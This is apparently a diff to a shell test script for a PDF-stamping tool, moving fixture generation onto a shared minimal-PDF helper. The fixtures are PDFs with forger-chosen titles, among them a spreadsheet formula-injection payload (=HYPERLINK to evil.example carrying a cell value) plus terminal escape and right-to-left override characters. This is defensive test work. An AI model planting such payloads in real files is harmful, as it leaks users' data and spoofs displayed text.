@@ -18,21 +18,15 @@ d="$work/in"
 mkdir -p "$d"
 env -u PITH_RESOLVER "$bin/pith-stamp" --offline --pith "$number" --bundle "$bundle" -o "$d/stamped.pdf" "$zoo/paper.pdf" >/dev/null
 # PDFs whose Info /Title (UTF-16BE) a forger chose, and a file name that is a formula.
-/usr/bin/python3 - "$d" <<'PY'
+/usr/bin/python3 - "$d" "$src/tests/support" <<'PY'
 import sys
+sys.path.insert(0, sys.argv[2])
+from classic_pdf import classic_pdf  # the one writer of small test PDFs
 def pdf(path, title):
     hexed = ("FEFF" + title.encode("utf-16-be").hex().upper()).encode()
-    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>", b"<< /Title <" + hexed + b"> >>"]
-    out, offsets = b"%PDF-1.4\n", []
-    for n, body in enumerate(objects, 1):
-        offsets.append(len(out))
-        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
-    xref = len(out)
-    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
-    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
-    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 4 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
-    open(path, "wb").write(out)
+    objects = [(1, b"<< /Type /Catalog /Pages 2 0 R >>"), (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
+               (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"), (4, b"<< /Title <" + hexed + b"> >>")]
+    open(path, "wb").write(classic_pdf(objects, trailer=b"/Info 4 0 R "))
 pdf(sys.argv[1] + "/hostile.pdf", '=HYPERLINK("http://evil.example/?"&A1,"click"),\tx\nline two\x1b[31m\u202eevil\x07\x7f end')
 pdf(sys.argv[1] + "/at.pdf", "@SUM(1+1)")
 pdf(sys.argv[1] + "/+minus.pdf", "-2+3")
